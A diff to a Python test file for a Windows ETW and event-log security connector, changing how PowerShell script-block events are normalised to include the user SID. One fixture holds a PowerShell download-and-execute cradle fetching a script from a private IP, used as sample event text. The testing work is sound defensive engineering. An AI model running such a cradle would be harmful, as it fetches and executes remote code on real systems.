@@ -46,7 +46,7 @@ def test_4104_normalised_field_by_field():
         "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
         "ScriptBlockId": "7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11",
         "Path": "",
-        "sigstream_TaskName": "EXECUTE A REMOTE COMMAND",
+        "Security_UserID": "S-1-5-21-1004336348-1177238915-682003330-1104",
     }
     # the recording itself is untouched (values stay strings there)
     assert R.ETW_PS_4104[1]["MessageNumber"] == "1"
@@ -56,14 +56,8 @@ def test_etw_and_event_log_renderings_of_the_same_4104_agree():
     from sigstream.connectors.winevent import parse_event_xml
     live = normalize_etw(R.ETW_PS_4104, HOST)
     logged = parse_event_xml(R.XML_PS_4104)
-    for k in ("EventID", "Channel", "Provider_Name", "Provider_Guid", "Computer", "TimeCreated", "Version",
-              "Level", "Task", "Opcode", "Keywords", "Execution_ProcessID", "Execution_ThreadID",
-              "Correlation_ActivityID", "MessageNumber", "MessageTotal", "ScriptBlockText",
-              "ScriptBlockId", "Path"):
-        assert live[k] == logged[k], k
-    # only the event log has a record id / user; only ETW has pywintrace's task name
-    assert set(logged) - set(live) == {"EventRecordID", "Security_UserID"}
-    assert set(live) - set(logged) == {"sigstream_TaskName"}
+    # the one document, but for the record id only the event log has
+    assert live == {k: v for k, v in logged.items() if k != "EventRecordID"}
 
 
 def test_4103_and_powershell_core_channels():
@@ -173,6 +167,25 @@ def test_provider_level_and_event_id_filters_passed(fake):
         assert job.providers_event_id_filters["{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"] == [4103, 4104]
     finally:
         src.stop()
+
+
+def test_providers_enabled_with_the_user_sid(fake):
+    fake.RECORDINGS.append(R.ETW_PS_4104)
+    src, got = _source(fake)
+    src.start()
+    try:
+        job = fake.running_sessions()[0]
+        assert all(p.params.contents.EnableProperty & fake.EVENT_ENABLE_PROPERTY_SID for p in job.providers)
+        assert len({id(p.params) for p in job.providers}) == len(job.providers)   # one each
+        assert wait_until(lambda: got)
+        assert got[0]["Security_UserID"] == "S-1-5-21-1004336348-1177238915-682003330-1104"
+    finally:
+        src.stop()
+    # as ETW does: a provider enabled without the property gets no SID
+    seen: list = []
+    bare = fake.ETW(providers=[fake.ProviderInfo("ps", fake.GUID(R.PS_GUID), 5)], event_callback=seen.append)
+    bare.deliver(R.ETW_PS_4104)
+    assert "Security_UserID" not in normalize_etw(seen[0], HOST)
 
 
 def test_orphan_session_stopped_before_start(fake):
